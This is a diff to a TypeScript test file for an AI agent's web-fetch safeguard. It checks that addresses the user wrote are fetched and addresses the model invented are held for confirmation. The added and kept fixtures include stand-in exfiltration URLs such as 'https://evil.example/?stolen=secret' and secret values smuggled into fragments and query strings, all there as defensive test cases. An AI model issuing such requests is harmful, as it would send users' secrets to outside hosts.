@@ -40,17 +40,26 @@ async function fetchAll(bench: AgentBench, text: string, calls: readonly object[
 
 test('what the user wrote, and what was read, may be followed; what the model made up is asked about', async () => {
   const { bench, fetched } = await start();
-  const asked = await fetchAll(bench, 'look at https://start.example/a and https://start.example/b', [
+  const asked = await fetchAll(bench, 'look at https://start.example/a and https://start.example/b#part', [
     { url: 'https://start.example/a' },
     { url: 'https://start.example/b#part' },
+    { url: 'https://start.example/b#' },
+    { url: 'https://start.example/b#secret' },
+    { actions: [{ op: 'goto', url: 'https://start.example/a#secret' }] },
     { url: 'https://pages.example/next?p=2' },
     { url: 'https://pages.example/more' },
     { url: 'https://evil.example/?stolen=secret' },
     { url: 'https://pages.example/next?p=secret' },
     { actions: [{ op: 'goto', url: 'https://evil.example/secret' }] },
   ]);
-  expect(asked).toEqual(['https://evil.example/?stolen=secret', 'https://pages.example/next?p=secret', 'https://evil.example/secret']);
-  expect(fetched).toHaveLength(4);
+  expect(asked).toEqual([
+    'https://start.example/b#secret',
+    'https://start.example/a#secret',
+    'https://evil.example/?stolen=secret',
+    'https://pages.example/next?p=secret',
+    'https://evil.example/secret',
+  ]);
+  expect(fetched).toHaveLength(5);
 });
 
 test('what ends an address in a sentence is no part of it there, and a new one where the model adds it', async () => {
